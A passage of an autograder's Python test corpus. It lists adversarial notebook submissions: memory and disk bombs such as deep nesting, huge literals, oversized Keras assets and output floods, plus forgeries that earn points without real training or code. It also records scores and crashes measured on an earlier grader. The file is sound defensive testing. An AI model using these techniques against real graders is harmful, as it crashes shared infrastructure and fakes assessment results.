        with_raw_json(_FAST, _deep_top_metadata, "@@DEEP@@", nested_json(200_000)),
        (),
        ("could not be read as a notebook",),
        lost={
            cell: "the file cannot be read as a notebook (not even by Jupyter): nothing can be graded; "
            "flagged so that the instructor can look at it"
            for part in FAST
            for cell in test_cells(part)
        },
    ),
    # 11. part 7 without training
    case(
        "pca_not_trained",
        "the FAST parts; part 7 without training: a 2-component PCA (NumPy SVD) and a least-squares decoder written "
        "into the Dense weights of standard-layer encoder/decoder models, and a History with a hand-made dict",
        then(_FAST, set_source("training", PCA_TRAINING)),
        FAST,
        ("NotImplementedError",),
        lost={
            "test_training": "no training ran: the history is hand-made and the weights are a PCA",
            "test_training_hidden": "no training ran: the encoder and decoder are a PCA written into Dense weights",
        },
    ),
    # --- more of the same classes -------------------------------------------------------------------------
    case(
        "memorised_quality_images",
        "the FAST parts; part 7 without training: the decoder is a nearest-neighbour lookup of the first 500 MNIST "
        "test images (the grader's fixed quality set), behind a PCA encoder; a hand-made History",
        then(_FAST, set_source("training", MEMORISED_TRAINING)),
        FAST,
        ("NotImplementedError",),
        lost={
            "test_training": "no training ran: the decoder looks up stored test images",
            "test_training_hidden": "no training ran: the decoder looks up the grader's own quality images",
        },
    ),
    case(
        "deep_expression_cell",
        "the FAST parts and one extra cell `total = 1+1+...+1` (200,000 terms, valid Python): ast.parse raises "
        "RecursionError, which the static scan and calls_fit do not catch",
        then(_FAST, add_cell_after("data", DEEP_EXPRESSION)),
        FAST,
        ("NotImplementedError",),
    ),
    case(
        "huge_literal_cell",
        "the FAST parts and one extra cell `numbers = [0,0,...]` of 20 M elements (40 MB, under intake's 50 MB): "
        "the static scan parses every student cell with ast in the grader process (~1 kB of memory an element)",
        then(_FAST, add_generated_cell_after("data", huge_literal)),
        FAST,
        ("NotImplementedError",),
    ),
    case(
        "many_cells_notebook",
        f"the FAST parts followed by {MANY_CELLS:,} empty raw cells (48 MB, under intake's 50 MB): each is "
        "salvaged, validated, copied and scanned in the grader process, where no time limit applies",
        with_raw_json(
            _FAST, _many_empty_cells, "@@CELLS@@", ", ".join(['{"cell_type": "raw"}'] * MANY_CELLS)
        ),
        FAST,
        ("NotImplementedError",),
    ),
    case(
        "probe_output_flood",
        "the FAST parts; part 7's hidden probe prints 1 MB lines for 45 s before answering nothing: a probe's "
        "outputs are exempt from the output limits, so the grader keeps every line",
        then(
            _FAST,
            add_cell_after(
                "setup",
                forge_cell(extra=PROBE_OUTPUT_FLOOD, table="{'probe_training_hidden': _flood}"),
            ),
        ),
        FAST,
        ("NotImplementedError",),
    ),
    case(
        "vocabulary_asset_bomb",
        "the FAST parts; part 7's hidden probe answered with a 260 kB .keras: a StringLookup whose vocabulary is "
        "an asset of 255 MiB of two-letter lines (under Keras's 256 MiB extraction floor), read into a list",
        then(_FAST, add_cell_after("setup", bomb_cell("vocabulary_asset(255)"))),
        FAST,
        (REFUSED_MODEL,),
        lost={
            "test_training_hidden": "a model file built to exhaust the grader's memory earns nothing"
        },
    ),
    case(
        "assets_extract_disk",
        "the FAST parts; part 7's hidden probe answered with a 2 MB .keras holding 8 extra members of 255 MiB of "
        "zeros: Keras extracts every member to the grader's /tmp (2 GiB here; a 48 MB answer reaches ~47 GiB)",
        then(_FAST, add_cell_after("setup", bomb_cell("junk_assets(8, 255)"))),
        FAST,
        (REFUSED_MODEL,),
        lost={
            "test_training_hidden": "a model file that writes gigabytes to the grader's disk earns nothing"
        },
    ),
    case(
        "huge_failure_messages",
        "no solution code; four probes answered with a 10 MB 'type' string, which the verdicts copy unshortened into "
        "their failure messages: the error outputs (evalue and traceback, which LimitOutput does not cut by "
        "length) and the feedback page grow by ~80 MB",
        then(release_only, add_cell_after("setup", forge_cell(extra=HUGE_MESSAGES, table="TABLE"))),
        (),
        ("NotImplementedError",),
    ),
]
"""Attacks on the verdicts (fair grades; what the grader of 5453c3c gave is in GRADES_BEFORE_CONFINED_JUDGE); appended to :data:`SUBMISSIONS`."""

SUBMISSIONS += VERDICT_ATTACKS

OPEN_FORGERIES: list[Submission] = [
    case(
        "forgeries_combined",
        "no solution code; every probe that needs no trained model answered by the notebook: NumPy draws and "
        "losses on the fixed or salted inputs, a hand-written graph, stated facts, constant manifolds",
        then(release_only, add_cell_after("setup", forge_cell(table="FORGERIES"))),
        (),
        ("NotImplementedError",),
        lost={
            cell: FORGED_NOTHING
            for part in ("sampling", "loss_layer", "vae_model", "data", "manifold")
            for cell in test_cells(part)
        },
    ),
    case(
        "salt_from_probe_globals",
        "no solution code; the salted hidden tests of parts 2 and 4 answered with NumPy, their inputs rebuilt "
        "from SALT and sampler_inputs/loss_batches, which the probe's own globals hold while it runs",
        then(
            release_only,
            add_cell_after("setup", forge_cell("probe_sampling_hidden", "probe_loss_layer_hidden")),
        ),
        (),
        ("NotImplementedError",),
        lost={"test_sampling_hidden": FORGED_NOTHING, "test_loss_layer_hidden": FORGED_NOTHING},
    ),
    case(
        "fixed_input_selfchecks",
        "no solution code; the self-checks of parts 2 and 4 answered with NumPy noise and the loss formula on "
        "their fixed, published inputs (z_mean 3, variance 4; LOSS_CODE_MEAN/LOG_VAR)",
        then(
            release_only, add_cell_after("setup", forge_cell("probe_sampling", "probe_loss_layer"))
        ),
        (),
        ("NotImplementedError",),
        lost={"test_sampling": FORGED_NOTHING, "test_loss_layer": FORGED_NOTHING},
    ),
    case(
        "constant_manifold",
        "no solution code; part 8's probes answered with constants: the layout a correct build_manifold gives "
        "for the probe decoder (the grid is fixed: norm.ppf of linspace), a call list, and a hand-made smooth picture",
        then(
            release_only,
            add_cell_after("setup", forge_cell("probe_manifold", "probe_manifold_hidden")),
        ),
        (),
        ("NotImplementedError",),
        lost={"test_manifold": FORGED_NOTHING, "test_manifold_hidden": FORGED_NOTHING},
    ),
    case(
        "hidden_data_without_code",
        "no solution code; part 6's hidden probe answered with its own fixed input divided by 255 and MNIST's first "
        "100 rows, with no preprocess, x_train or x_test in the notebook",
        then(release_only, add_cell_after("setup", forge_cell("probe_data_hidden"))),
        (),
        ("NotImplementedError",),
        lost={"test_data_hidden": FORGED_NOTHING},
    ),
]
"""Forgeries that still earn points, kept out of the graded corpus (their fair grade, 0, is not reached yet)
and checked in this process instead (tests/test_verdict_attacks.py, strict xfails that say why). Each answers
a probe with the right values computed by the notebook's own NumPy code, or with constants, instead of the
asked-for function: on salted inputs the notebook reads from the probe's globals (parts 2 and 4, hidden), on
the self-checks' published inputs (parts 2 and 4, visible), on part 6's fixed input and MNIST's first rows,
and on part 8's fixed probe decoder and grid. The grader never runs student code outside the kernel, so a
value computed right by other means cannot be told from the function's (README, "What remains possible");
what would close the constant ones is salting every probe's inputs (the probe decoder, the data probe)."""
FLAGGED = {*FLAGGED, "deep_metadata"}
VERDICT_ATTACKS_NO_CODE = (
    "issue_forgeries_combined",
    "forged_part5_graph",
    "stated_part6",
    "stated_part8_batched",
    "huge_failure_messages",
)
"""Cases of VERDICT_ATTACKS without any solution code: they must score exactly 0."""

GRADES_BEFORE_CONFINED_JUDGE: dict[str, str] = {
    # What the grader of 5453c3c gave, graded one case at a time with plain nbgrader (the pipeline of
    # vae_grader.pipeline.grade_class, one worker) on this project's 2-core machine, 2026-12-07, inside a memory cgroup
    # capped at 6-7 GB (grader and kernel together; the kernel ran unsandboxed so that it imported
    # 5453c3c's course package). "grader RSS" is the autograde process's peak resident memory; a normal
    # FAST notebook peaks at 0.8 GB there (pca_not_trained) and 1.4 GB for grader and kernel together.
    "verdict_raises": "33/40: FAST's 28 + 5/5 for test_training_hidden (TypeError: can only join an iterable "
    "out of selfcheck.judge; the judged cell kept no output, which nbgrader scores as full marks); "
    "test_manifold and test_manifold_hidden never run and flagged",
    "hdf5_chunk_bomb": "0/40, no feedback grade: the grader reached 6.8 GB RSS in 17 s and was killed by the "
    "cgroup (in-process: 3.7 kB a chunk, so ~30 GB for the 8 M chunks; 21.7 GB measured uncapped)",
    "huge_config_params": "28/40 (= fair) but the grader peaked at 4.8 GB RSS building and initialising 200 M "
    "parameters (5 s) before refusing the weights",
    "deflate_config_bomb": "28/40 (= fair) but the grader peaked at 3.9 GB RSS inflating 1.5 GiB of config.json "
    "(11.9 s of verdicts); Keras then LOADED the model: the whitespace is valid JSON",
    "slow_verdict_model": "28/40 (= fair) but one verdict ran 300.1 s in the grader process (Executed 13 cells "
    "in 314.1 s, verdicts 300.1 s); nothing bounds a verdict's time",
    "forged_part5_graph": "3/40: test_vae_model 1/1, test_vae_model_hidden 2/2, unflagged",
    "stated_part6": "1/40: test_data 1/1, unflagged",
    "stated_part8_batched": "0.5/40: test_manifold_hidden 0.5/3 (one batched decoder call), unflagged",
    "issue_forgeries_combined": "not re-measured on 5453c3c: the issue's own measurement of these forgeries in "
    "one notebook was 14/40, unflagged, nothing on the feedback page",
    "forgeries_combined": "23/40 unflagged: sampling 2+4, loss layer 2+4, VAE model 1+2, data 1+2, "
    "manifold 2+3",
    "nbformat_v3": "0/40, flagged: intake's salvage found 'no cell list' (worksheets), every part 0",
    "deep_metadata": "no grade: RecursionError out of json.loads in the intake, autograde exited 1, no "
    "feedback page (the fair outcome: 0, flagged, a note)",
    "pca_not_trained": "35/40: FAST's 28 + test_training 2/2 + test_training_hidden 5/5, unflagged",
    "salt_from_probe_globals": "8/40: test_sampling_hidden 4/4, test_loss_layer_hidden 4/4",
    "fixed_input_selfchecks": "4/40: test_sampling 2/2, test_loss_layer 2/2",
    "constant_manifold": "5/40: test_manifold 2/2, test_manifold_hidden 3/3",
    "hidden_data_without_code": "2/40: test_data_hidden 2/2",
    "memorised_quality_images": "35/40: FAST's 28 + test_training 2/2 + test_training_hidden 5/5, unflagged",
    "deep_expression_cell": "no grade: RecursionError (during ast construction) out of RepairSubmission's "
    "static scan, autograde exited 1 after 7 s, no feedback page",
    "huge_literal_cell": "no grade: the grader reached 6.9 GB RSS in the static scan (no kernel started yet) "
    "and was killed by the cgroup; no feedback page (in-process: 1.9 GB for a 4 MB literal)",
    "many_cells_notebook": "no grade: after 258 s in the sanitize step (intake's salvage of 2.3 M cells; no "
    "kernel started yet) the grader reached 6.9 GB RSS and was killed by the cgroup; no feedback page "
    "(in-process: 200,000 cells took 59 s and 0.4 GB to read, then 12 s to copy, 24 s to write)",
    "probe_output_flood": "28/40 (= fair) but the grader peaked at 4.6 GB RSS holding 45 s of the probe's "
    "output (the kernel 2.0 GB); unflushed, the kernel's own buffer grew instead until it was OOM-killed",
    "vocabulary_asset_bomb": "0/40, no grade: the grader reached 6.5 GB RSS reading the vocabulary asset and was "
    "killed by the cgroup (in-process: 64 MiB of vocabulary took 4.3 GB and 43 s)",
    "assets_extract_disk": "28/40 (= fair); the grader extracted 8 x 255 MiB (2 GiB) into its /tmp (the "
    "cgroup's page cache grew 1.8 GB over the grader's 0.8 GB RSS)",
    "huge_failure_messages": "0/40 (= fair) but the feedback page is 40.2 MB (a normal one: 0.2 MB): four 10 MB "
    "failure messages, each in the error's evalue and traceback",
}
"""Evidence: what the grader of 5453c3c gave each case of VERDICT_ATTACKS (their fair grades are in ``expected``)."""
